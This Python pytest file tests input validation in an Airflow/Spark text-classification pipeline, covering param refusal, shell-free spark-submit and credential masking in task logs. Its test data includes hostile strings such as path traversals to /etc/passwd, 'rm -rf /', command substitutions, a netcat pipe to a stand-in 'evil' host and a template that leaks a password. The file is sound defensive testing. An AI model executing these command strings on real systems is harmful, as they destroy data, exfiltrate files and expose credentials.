"""Hostile parameters: what a person (or a script) can type into a DAG's trigger form never leaves
the data roots, never reaches a shell, and never makes a credential show up in a task log.

* every URI param of every DAG, given path traversals, foreign schemes and hosts, shell-looking
  strings, control characters, template markers or a very long string, is refused by the DAG's
  ``plan`` function with a clear message, before any Spark job;
* every numeric, enumerated, boolean or patterned param outside its bounds is refused too (the
  plan checks the same JSON schemas as the Params of the trigger form, so a value that slipped
  past the form, e.g. in a cleared run or a direct call, is still refused);
* spark-submit is started with an argument list, never through a shell: a hostile string stays
  one argv element all the way to ``subprocess.Popen``;
* credentials in the Spark configuration or the Spark connection do not appear in task logs;
* one real ``airflow dags test`` run: a hostile param fails the ``plan`` task with its message, and
  no Spark task runs.
"""

from __future__ import annotations

import json
import math
import re
import subprocess
from datetime import datetime, timezone
from pathlib import Path

import pytest

from helpers import VENV_BIN, airflow_env_base, latest_run_task_states
from nbknn import contract
from nbknn_airflow import param_schemas
from nbknn_airflow.plans.base import PlanError

pytestmark = pytest.mark.reliability

RUN_ID = "manual__2026-11-22T01:53:18+00:00"
RUN_AFTER = datetime(2026, 11, 22, 1, 53, 18, tzinfo=timezone.utc)
DOCUMENTS = {"input_format": "jsonl", "id_column": "id", "label_column": "label", "text_column": "text",
             "max_reject_fraction": 0.01, "max_record_bytes": 8 * 1024 * 1024}
VALID = {
    "nb_train": {**DOCUMENTS, "input_uri": "input/nb_train/labelled", "mode": "full", "base_version": None,
                 "partition_format": "date=%Y-%m-%d", "model_type": "multinomial", "alpha": 1.0, "fit_prior": True,
                 "min_term_count": 1, "num_shards": 4, "max_entries_per_shard": None,
                 "token_pattern": r"[\p{L}\p{M}\p{N}]{2,}", "lowercase": True,
                 "normalization": contract.DEFAULT_NORMALIZATION,
                 **param_schemas.NB_TRAIN_DEFAULTS},  # model selection off, its grids at their defaults
    "nb_predict": {**DOCUMENTS, "input_uri": "input/nb_predict/documents", "model_version": "latest", "top_n": 0},
    "doc_vectors": {**DOCUMENTS, "input_uri": "input/nb_predict/documents", "output_uri": "input/knn_neighbors/vectors",
                    "dims": 128, "min_doc_freq": 2},
    "knn_neighbors": {"input_uri": "input/knn_neighbors/vectors", "input_format": "parquet", "id_column": "id",
                      "vector_column": "vector", "query_uri": None, "dim": None, "k": 10, "metric": "euclidean",
                      "mode": "auto", "exclude_self": True, "block_bytes_budget": 64 * 1024 * 1024,
                      "broadcast_max_bytes": 256 * 1024 * 1024, "annoy_trees": 50, "max_reject_fraction": 0.01},
}
SCHEMAS = {"nb_train": param_schemas.NB_TRAIN, "nb_predict": param_schemas.NB_PREDICT,
           "doc_vectors": param_schemas.DOC_VECTORS, "knn_neighbors": param_schemas.KNN_NEIGHBORS}
URI_PARAMS = [("nb_train", "input_uri"), ("nb_predict", "input_uri"), ("doc_vectors", "input_uri"),
              ("doc_vectors", "output_uri"), ("knn_neighbors", "input_uri"), ("knn_neighbors", "query_uri")]
# (hostile value, what the refusal says)
HOSTILE_URIS = {
    "dotdot_relative": ("../../etc/passwd", r"'\.' or '\.\.'"),
    "dotdot_inside_root": ("input/../../../etc", r"'\.' or '\.\.'"),
    "dotdot_in_full_uri": ("{root}/input/../../etc/shadow", r"'\.' or '\.\.'"),
    "encoded_dotdot": ("input/%2e%2e/%2E%2E/etc", r"percent-encoded"),
    "foreign_scheme_s3": ("s3://bucket/data", r"scheme must be one of"),
    "foreign_scheme_http": ("http://example.invalid/data", r"scheme must be one of"),
    "ftp": ("ftp://example.invalid/data", r"scheme must be one of"),
    "local_file_outside_root": ("file:///etc/passwd", r"outside the allowed roots"),
    "other_host_same_scheme": ("file://otherhost{root_path}/input", r"outside the allowed roots"),
    "other_namenode": ("hdfs://evil:8020/data", r"outside the allowed roots"),
    "root_prefix_trick": ("{root}-evil/input", r"outside the allowed roots"),
    "network_path": ("//evil/share/data", r"scheme must be one of"),
    "shell_semicolon": ("input; rm -rf /", r"characters that no data path needs"),
    "shell_substitution": ("input/$(whoami)", r"characters that no data path needs"),
    "shell_backticks": ("input/`reboot`", r"characters that no data path needs"),
    "shell_pipe_redirect": ("input | nc evil 80 > /tmp/x", r"characters that no data path needs"),
    "newline": ("input\nrm -rf /", r"characters that no data path needs"),
    "nul_byte": ("input\x00/etc/passwd", r"characters that no data path needs"),
    "unicode_line_separator": ("input\u2028x", r"characters that no data path needs"),
    "glob": ("input/*", r"characters that no data path needs"),
    "glob_braces": ("input/{a,b}", r"characters that no data path needs"),
    "fragment": ("input/docs#x", r"characters that no data path needs"),
    "jinja_template": ("{{ conn.spark_default.password }}", r"characters that no data path needs"),
    "very_long": ("input/" + "a" * 5000, r"5006 characters long, more than 1024"),
    "long_component": ("input/" + "b" * 300, r"more than HDFS's 255"),
    "hdfs_colon": ("input/a:b", r"holds ':'"),
}


@pytest.fixture
def data_root(tmp_path, monkeypatch):
    """A data root with a published (fake) model, so that nb_predict's plan gets past the model."""
    monkeypatch.setenv("NBKNN_DATA_ROOT", tmp_path.as_uri())
    monkeypatch.delenv("NBKNN_INPUT_ROOTS", raising=False)
    model = tmp_path / "models" / "naive_bayes" / "v1"
    (model / "term_counts" / "shard=0").mkdir(parents=True)
    (model / "manifest.json").write_text(json.dumps({
        "kind": "naive_bayes", "version": "v1", "num_shards": 1, "model": {"type": "multinomial"},
        "shards": [{"shard": 0, "entries": 1, "class_ids": [0]}], "counts": {"classes": 1},
    }))
    (tmp_path / "models" / "naive_bayes" / "LATEST").write_text("v1\n")
    return tmp_path


def plan(dag_id: str, params: dict, run_id: str = RUN_ID) -> dict:
    from nbknn_airflow.plans.doc_vectors import plan_doc_vectors
    from nbknn_airflow.plans.knn_neighbors import plan_knn
    from nbknn_airflow.plans.nb_predict import plan_prediction
    from nbknn_airflow.plans.nb_train import plan_training

    if dag_id == "nb_train":
        # A scheduled run's data interval, so that incremental mode has a partition to read.
        interval = (datetime(2026, 11, 21, tzinfo=timezone.utc), datetime(2026, 11, 22, tzinfo=timezone.utc))
        return plan_training(params, run_id, RUN_AFTER, "scheduled", interval)
    if dag_id == "nb_predict":
        return plan_prediction(params, run_id)
    if dag_id == "doc_vectors":
        return plan_doc_vectors(params, run_id)
    return plan_knn(params, run_id)


def all_args(planned: dict) -> list[str]:
    """Every argument of every Spark application of a plan."""
    found = []
    for key, value in planned.items():
        if key.endswith("_args"):
            lists = value if value and isinstance(value[0], list) else [value]
            found += [arg for args in lists for arg in args]
    return found


@pytest.mark.parametrize("dag_id", list(VALID))
def test_valid_params_plan_arguments_under_the_data_root(data_root, dag_id):
    planned = plan(dag_id, VALID[dag_id])
    uris = [arg for arg in all_args(planned) if "://" in arg and not arg.startswith("{")]
    assert uris and all(uri.startswith(data_root.as_uri() + "/") for uri in uris), uris


@pytest.mark.parametrize("kind", list(HOSTILE_URIS))
@pytest.mark.parametrize("dag_id, name", URI_PARAMS, ids=[f"{d}.{n}" for d, n in URI_PARAMS])
def test_hostile_uri_params_are_refused_by_plan(data_root, dag_id, name, kind):
    value, message = HOSTILE_URIS[kind]
    value = value.replace("{root}", data_root.as_uri()).replace("{root_path}", str(data_root))
    with pytest.raises(PlanError, match=message) as refused:
        plan(dag_id, {**VALID[dag_id], name: value})
    TALLY["uri"] += 1
    assert "\n" not in str(refused.value) or "\n" in value  # one line (unless it quotes the value)


def out_of_bounds(schema: dict) -> list:
    """Values that ``schema`` refuses: past each bound, of the wrong type, non-finite, not in the enum."""
    values = []
    types = schema.get("type")
    types = types if isinstance(types, list) else [types]
    if "minimum" in schema:
        values.append(schema["minimum"] - (1 if "integer" in types else 1e-9))
    if "exclusiveMinimum" in schema:
        values.append(schema["exclusiveMinimum"])
    if "maximum" in schema:
        values.append(schema["maximum"] + 1)
    if "integer" in types:
        values += [1.5, True, "10", math.inf]
    if "number" in types:
        values += [math.nan, math.inf, "0.5", False]
    if "boolean" in types:
        values += ["false", 0, None]
    if "enum" in schema:
        values += [schema["enum"][0] + "; rm -rf /", schema["enum"][0].upper() + "x", 1]
    if "pattern" in schema:
        values += ["bad value;", "../x", "x" * 600]
    if "maxLength" in schema and "string" in types:
        values.append("x" * (schema["maxLength"] + 1))
    if types == ["string"] or "enum" in schema:
        values.append(None)
    if "array" in types:
        values += ["not a list", None, []]  # the wrong type, and fewer than minItems (all have >= 1)
        if "maxItems" in schema:
            values.append([schema["items"].get("enum", [0.5])[0]] * 0 + list(range(1, schema["maxItems"] + 2)))
        if schema.get("uniqueItems"):
            first = (schema["items"].get("enum") or [1.0])[0]
            values.append([first, first])
        values += [[bad] for bad in out_of_bounds(schema["items"])]  # one refused item
    return values


NON_URI = [(dag_id, name) for dag_id, schemas in SCHEMAS.items() for name in schemas
           if not name.endswith("_uri")]
TALLY = {"uri": 0, "other": 0}


@pytest.mark.parametrize("dag_id, name", NON_URI, ids=[f"{d}.{n}" for d, n in NON_URI])
def test_out_of_bounds_params_are_refused_by_plan(data_root, dag_id, name):
    values = out_of_bounds(SCHEMAS[dag_id][name])
    assert values, f"no out-of-bounds value for {dag_id}.{name}"
    for value in values:
        with pytest.raises(PlanError) as refused:
            plan(dag_id, {**VALID[dag_id], name: value})
        assert name in str(refused.value) or re.search(r"must|refused|does not", str(refused.value)), refused.value
        TALLY["other"] += 1


@pytest.mark.parametrize(
    "dag_id, change, message",
    [
        ("knn_neighbors", {"k": 0}, r"k must be an integer >= 1"),
        ("knn_neighbors", {"k": 10_001}, r"param k=10001 refused: 10001 is greater than the maximum of 10000"),
        ("knn_neighbors", {"block_bytes_budget": 1000}, r"block_bytes_budget must be >= 1048576"),
        ("knn_neighbors", {"block_bytes_budget": "1G"}, r"param block_bytes_budget='1G' refused"),
        ("knn_neighbors", {"broadcast_max_bytes": 0}, r"param broadcast_max_bytes=0 refused"),
        ("knn_neighbors", {"dim": -3}, r"param dim=-3 refused"),
        ("nb_train", {"num_shards": 0}, r"param num_shards=0 refused: 0 is less than the minimum of 1"),
        ("nb_train", {"max_entries_per_shard": 10}, r"param max_entries_per_shard=10 refused"),
        ("nb_train", {"alpha": float("nan")}, r"param alpha=nan refused: must be a finite number"),
        ("nb_train", {"max_record_bytes": 64 * 1024 * 1024}, r"greater than the maximum of 16777216"),
        ("nb_train", {"token_pattern": "{{ conn.spark_default.password }}"}, r"holds a template marker"),
        ("nb_train", {"mode": "incremental", "partition_format": "date=%Y; rm -rf /"},
         r"partition_format .* gives an invalid folder name: .*characters that no data path needs"),
        ("nb_predict", {"top_n": 101}, r"param top_n=101 refused"),
        ("nb_predict", {"model_version": "../../v1"}, r"model version must match"),
        ("doc_vectors", {"output_uri": "models/naive_bayes"}, r"inside models/, which the pipeline's other outputs own"),
        ("doc_vectors", {"output_uri": "rejects"}, r"inside rejects/"),
        ("doc_vectors", {"output_uri": "models"}, r"inside models/"),
        ("doc_vectors", {"dims": 1}, r"param dims=1 refused"),
    ],
)
def test_named_bounds_are_refused_with_clear_messages(data_root, dag_id, change, message):
    with pytest.raises(PlanError, match=message):
        plan(dag_id, {**VALID[dag_id], **change})


def test_doc_vectors_does_not_replace_a_folder_it_did_not_write(data_root):
    """Publishing the vectors replaces output_uri whole: an existing folder of something else is refused."""
    (data_root / "input" / "curated").mkdir(parents=True)
    (data_root / "input" / "curated" / "part-0.parquet").write_bytes(b"precious")
    with pytest.raises(PlanError, match=r"exists and is not a table published by doc_vectors"):
        plan("doc_vectors", {**VALID["doc_vectors"], "output_uri": "input/curated"})
    assert (data_root / "input" / "curated" / "part-0.parquet").read_bytes() == b"precious"
    (data_root / "input" / "vectors").mkdir()
    (data_root / "input" / "vectors" / "_summary.json").write_text(json.dumps({"job": "doc_vectors"}))
    assert plan("doc_vectors", {**VALID["doc_vectors"], "output_uri": "input/vectors"})["uris"]["output"].endswith(
        "/input/vectors")


@pytest.mark.parametrize("run_id", ["manual__x; rm -rf /", "../../etc", "run\nid", "a" * 500, "$(id)`id`"])
def test_hostile_run_ids_become_safe_run_keys(data_root, run_id):
    planned = plan("knn_neighbors", VALID["knn_neighbors"], run_id=run_id)
    key = planned["run_key"]
    assert re.fullmatch(r"[A-Za-z0-9_.-]{1,120}", key), key
    assert all(uri is None or uri.startswith(data_root.as_uri()) for uri in planned["uris"].values())


def test_params_of_the_dags_are_the_schemas_the_plans_check():
    """The trigger form (the DAG's Params) and the plan check the very same schemas."""
    from airflow.dag_processing.dagbag import DagBag

    from helpers import REPO_ROOT

    dags = DagBag(dag_folder=str(REPO_ROOT / "dags")).dags
    for dag_id, schemas in SCHEMAS.items():
        params = dags[dag_id].params
        assert set(params.keys()) == set(schemas), dag_id
        for name, schema in schemas.items():
            declared = {k: v for k, v in params.get_param(name).schema.items() if k not in ("description",)}
            assert declared == schema, f"{dag_id}.{name}: {declared} != {schema}"
            # Each DAG's default passes its own plan check.
            param_schemas.check_param(name, params[name], schema)


HOSTILE_ARGS = ["; rm -rf / #", "$(touch /tmp/pwned)", "`id`", "a b\tc", "x\ny", "' OR '1'='1", "{{ 7 * 7 }}"]


def test_spark_submit_gets_an_argument_list_and_no_shell(task_build_dir, monkeypatch):
    """Through the real operator: execute() -> SparkSubmitHook.submit() -> subprocess.Popen, with
    Popen replaced by a recorder. Each hostile string arrives as one argv element."""

    from airflow.providers.apache.spark.hooks import spark_submit as hook_module

    from nbknn_airflow.spark_submit import spark_app

    monkeypatch.setenv("AIRFLOW_CONN_SPARK_DEFAULT", json.dumps({"conn_type": "spark", "host": "local[2]"}))
    recorded = {}

    class Recorded(Exception):
        pass

    def fake_popen(command, *args, **kwargs):
        recorded.update(command=command, args=args, kwargs=kwargs)
        raise Recorded()

    monkeypatch.setattr(hook_module.subprocess, "Popen", fake_popen)
    args = ["--input", "file:///data/in", *[item for value in HOSTILE_ARGS for item in ("--lineage", value)]]
    operator = spark_app("hostile", "nb_class_prior.py", args)
    with pytest.raises(Recorded):
        operator.execute(context={})
    command = recorded["command"]
    assert isinstance(command, list) and all(isinstance(part, str) for part in command)
    assert not recorded["kwargs"].get("shell")
    for value in HOSTILE_ARGS:
        assert value in command, value  # one element, byte for byte
    tail = command[command.index(str(Path(operator.application))) + 1:]
    assert tail == args
    TALLY["argv"] = len(HOSTILE_ARGS)


SECRETS = {
    "spark.hadoop.fs.azure.account.key.acct.dfs.core.windows.net": "azure-account-key",
    "spark.hadoop.fs.s3a.secret.key": "s3a-secret-key",
    "spark.hadoop.fs.s3a.session.token": "s3a-session-token",
    "spark.ssl.keyStorePassword": "keystore-password",
    "spark.hadoop.fs.gs.auth.service.account.private.key": "gcs-private-key",
}
# A spark-submit that fails fast: it prints its arguments (the hook logs every output line) and
# exits as an application that refused its input would (exit code 65, not retried).
FAILING_SPARK_SUBMIT = """#!/bin/sh
printf '%s\\n' "$@" > "$0.argv"
for arg in "$@"; do echo "spark-submit got: $arg"; done
exit 65
"""


def test_credentials_in_the_spark_conf_are_masked_in_the_task_log(tmp_path, task_build_dir, monkeypatch):
    """Through the operator's own ``execute``: the deployment's Spark conf (NBKNN_SPARK_CONF) holds
    credentials; ``execute`` -> SparkSubmitHook.submit -> a spark-submit on the PATH that prints its
    arguments and fails. Everything logged on the way (the hook's "Spark-Submit cmd", each output
    line, the task's failure) goes through the processor chain the supervisor writes task log files
    with (``airflow.sdk.log.logging_processors(json_output=True)``, which redacts with Airflow's
    secrets masker). Each credential must reach spark-submit and show as ``***`` in the log, never
    in clear; the provider alone masks only keys holding "secret" or "password".

    The values are unique to this call: the secrets masker is global to the process, so a value
    registered by another test could otherwise be masked without the operator doing anything."""
    import io
    import logging
    import uuid

    import structlog
    from airflow.sdk.exceptions import AirflowFailException
    from airflow.sdk.log import logging_processors

    from nbknn_airflow.spark_submit import spark_app

    secrets = {name: f"{value}-{uuid.uuid4().hex}" for name, value in SECRETS.items()}
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    spark_submit = bin_dir / "spark-submit"
    spark_submit.write_text(FAILING_SPARK_SUBMIT)
    spark_submit.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    monkeypatch.setenv("AIRFLOW_CONN_SPARK_DEFAULT", json.dumps({"conn_type": "spark", "host": "local[2]"}))
    monkeypatch.setenv("NBKNN_SPARK_CONF", json.dumps({"spark.ui.enabled": "false", **secrets}))

    task_log = io.BytesIO()
    saved = structlog.get_config()
    # At INFO, the task log's default level (the tests run Airflow at WARNING).
    structlog.configure(processors=list(logging_processors(json_output=True)),
                        wrapper_class=structlog.make_filtering_bound_logger(logging.INFO),
                        logger_factory=structlog.BytesLoggerFactory(task_log), cache_logger_on_first_use=False)
    try:
        operator = spark_app("masked", "nb_class_prior.py", ["--input", "file:///data/in"])
        with pytest.raises(AirflowFailException, match=r"exit code 65") as failed:
            operator.execute(context={})
        # What the task runner does with the failure: it logs it, traceback and message, to the task log.
        structlog.get_logger(logger_name="task").error("Task failed with exception", exc_info=failed.value)
    finally:
        structlog.configure(**saved)

    argv = (tmp_path / "bin" / "spark-submit.argv").read_text().splitlines()
    for name, value in secrets.items():
        assert f"{name}={value}" in argv, f"{name} did not reach spark-submit: the test proves nothing"
    events = [json.loads(line) for line in task_log.getvalue().splitlines()]
    logged = "\n".join(json.dumps(event) for event in events)
    command = next(e["event"] for e in events if e["event"].startswith("Spark-Submit cmd:"))
    output = [e["event"] for e in events if e["event"].startswith("spark-submit got: ")]
    failure = next(e for e in events if e["event"] == "Task failed with exception")
    leaked = sorted(name for name, value in secrets.items() if value in logged)
    assert not leaked, f"credentials in clear in the task log: {leaked}"
    for name in secrets:
        assert f"--conf {name}=***" in command, (name, command)
        assert f"spark-submit got: {name}=***" in output, (name, output)
        assert f"{name}=***" in json.dumps(failure), name
    assert "--conf spark.ui.enabled=false" in command
    # Not vacuous: the provider's own masking lets most of these credentials through.
    from airflow.providers.apache.spark.hooks.spark_submit import _mask_sensitive_values

    provider_only = _mask_sensitive_values(" ".join(f"--conf {k}={v}" for k, v in secrets.items()))
    missed_by_provider = sorted(name for name, value in secrets.items() if value in provider_only)
    assert missed_by_provider, "the provider alone already masks every credential: this test no longer proves much"
    TALLY["secrets_masked"] = len(secrets)
    TALLY["secrets_missed_by_provider"] = len(missed_by_provider)


def test_a_hostile_param_fails_plan_in_a_real_dag_run_and_no_spark_task_runs(airflow_db, tmp_path, figures):
    """``airflow dags test`` with an input outside the data roots (a path traversal is refused earlier,
    by the Param's pattern when the run is created): the run fails at ``plan`` with the message,
    every Spark task is left unrun, and nothing of the deployment's credentials is printed.

    This run never reaches spark-submit, so it says nothing about masking the Spark conf: that is
    proven through the operator by test_credentials_in_the_spark_conf_are_masked_in_the_task_log.
    (``airflow dags test`` itself prints task logs unmasked: its console logging has no masking
    processor, unlike the task log files a worker's supervisor writes.)"""
    from cryptography.fernet import Fernet

    fernet = Fernet.generate_key().decode()
    password = "conn-password-0123456789"
    extra_env = {
        "AIRFLOW__CORE__FERNET_KEY": fernet,
        "NBKNN_SPARK_CONF": json.dumps({"spark.ui.enabled": "false", **SECRETS}),
    }
    env = {
        **airflow_env_base(),
        **extra_env,
        "AIRFLOW_CONN_SPARK_DEFAULT": json.dumps({"conn_type": "spark", "host": "local[2]", "password": password}),
        "NBKNN_DATA_ROOT": tmp_path.as_uri(),
    }
    conf = json.dumps({"input_uri": "file:///etc/passwd"})
    result = subprocess.run([str(VENV_BIN / "airflow"), "dags", "test", "nb_train", "-c", conf],
                            env=env, capture_output=True, text=True, timeout=600)
    output = result.stdout + result.stderr
    assert result.returncode != 0 or "failed" in output.lower(), output[-3000:]
    assert re.search(r"PlanError: input URI 'file:///etc/passwd' is outside the allowed roots", output), output[-5000:]
    states = latest_run_task_states("nb_train")
    assert states[("plan", -1)] == "failed", states
    spark_tasks = ("class_prior", "term_counts", "merge", "publish")
    assert all(states.get((task, -1)) in ("upstream_failed", None) for task in spark_tasks), states
    logs = "\n".join(p.read_text(errors="replace") for p in (airflow_db / "logs").rglob("*") if p.is_file()) \
        if (airflow_db / "logs").exists() else ""
    leaked = [name for name, secret in {"fernet": fernet, "connection password": password, **SECRETS}.items()
              if secret in output or secret in logs]
    assert not leaked, leaked
    assert not (tmp_path / "models").exists() and not (tmp_path / "rejects").exists()
    figures.update(
        uri_cases_refused=TALLY["uri"],
        out_of_bounds_values_refused=TALLY["other"],
        hostile_argv_elements=TALLY.get("argv"),
        secrets_masked=TALLY.get("secrets_masked"),
        secrets_the_provider_alone_would_log=TALLY.get("secrets_missed_by_provider"),
        dag_run_plan_state=states[("plan", -1)],
        spark_tasks_run=sum(states.get((t, -1)) not in ("upstream_failed", None) for t in spark_tasks),
        secrets_leaked=len(leaked),
    )
